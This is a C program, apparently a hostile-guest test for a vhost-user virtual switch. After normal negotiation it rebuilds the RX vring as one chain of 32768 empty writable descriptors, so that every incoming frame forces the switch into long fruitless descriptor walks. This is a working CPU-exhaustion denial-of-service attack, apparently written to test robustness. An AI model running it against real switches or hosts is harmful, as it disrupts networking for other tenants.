/* vs_attack_desc_walk SOCK: a guest whose RX ring costs the switch as much work per
 * frame as a ring can. After a normal negotiation it sets its RX vring up again
 * with 32768 descriptors forming one chain of empty (zero-length) device-writable
 * buffers, and every avail entry pointing at that chain. Each frame sent to this
 * guest (floods included) then walks up to 64 chains of 32768 descriptors looking
 * for room that is not there, and each frame of a burst starts again. Holds until
 * SIGTERM. */
#include <string.h>
#include <unistd.h>

#include <linux/virtio_ring.h>

#include "test/hostile/hostile.h"

#define RING 32768u

static void *alloc(struct fe *fe, uint64_t len, uint64_t align, uint64_t *gpa)
{
    *gpa = vs_vdrv_mem_alloc(&fe->vm, 0, len, align);
    void *p = *gpa ? vs_vdrv_mem_hva(&fe->vm, *gpa) : NULL;
    if (!p)
        hx_die("no room for %llu bytes of ring in guest memory", (unsigned long long)len);
    memset(p, 0, len);
    return p;
}

int main(int argc, char **argv)
{
    struct fe fe;
    struct fe_opts o = hx_default_opts();
    struct vs_vhu_msg reply;
    uint64_t desc_gpa, avail_gpa, used_gpa, buf_gpa, v = 0;
    int rc;

    hx_set_prog(argv[0]);
    if (argc != 2)
        hx_die("usage: vs_attack_desc_walk SOCK");
    if ((rc = hx_connect(&fe, argv[1], 5000)) < 0)
        hx_die("cannot connect to %s: %s", argv[1], strerror(-rc));
    if ((rc = fe_negotiate(&fe, &o)) != 0)
        hx_die("negotiation failed at step %d", rc);

    struct vring_desc *desc = alloc(&fe, 16ull * RING, 16, &desc_gpa);
    struct vring_avail *avail = alloc(&fe, 6 + 2ull * RING, 2, &avail_gpa);
    alloc(&fe, 6 + 8ull * RING, 4, &used_gpa);
    alloc(&fe, 64, 64, &buf_gpa);
    for (uint32_t i = 0; i < RING; i++) {
        desc[i] = (struct vring_desc){.addr = buf_gpa, .len = 0,
                                      .flags = VRING_DESC_F_WRITE | VRING_DESC_F_NEXT,
                                      .next = (uint16_t)(i + 1)};
        avail->ring[i] = 0;
    }
    desc[RING - 1].flags = VRING_DESC_F_WRITE;
    avail->idx = (uint16_t)RING; /* 32768 entries available, all the same chain */

    /* Stop the RX vring (0), then set it up again on the new ring. */
    struct vhost_vring_state st = {.index = 0};
    if (fe_send(&fe, VS_VHU_GET_VRING_BASE, VS_VHU_VERSION, &st, sizeof(st), NULL, 0) < 0 ||
        fe_recv(&fe, &reply, 2000) < 0)
        hx_die("GET_VRING_BASE got no reply");
    struct vhost_vring_addr a = {.index = 0,
                                 .desc_user_addr = fe_uva(&fe, desc_gpa),
                                 .avail_user_addr = fe_uva(&fe, avail_gpa),
                                 .used_user_addr = fe_uva(&fe, used_gpa),
                                 .log_guest_addr = used_gpa};
    if (fe_ack_state(&fe, VS_VHU_SET_VRING_NUM, 0, RING) != 0 ||
        fe_ack_state(&fe, VS_VHU_SET_VRING_BASE, 0, 0) != 0 ||
        fe_ack(&fe, VS_VHU_SET_VRING_ADDR, &a, sizeof(a), NULL, 0) != 0 ||
        fe_ack(&fe, VS_VHU_SET_VRING_KICK, &v, 8, &fe.kick[0], 1) != 0 ||
        fe_ack_state(&fe, VS_VHU_SET_VRING_ENABLE, 0, 1) != 0)
        hx_die("setting the RX vring up again was refused");
    hx_ready_and_hold("RX ring of 32768 empty descriptors in one chain");
}
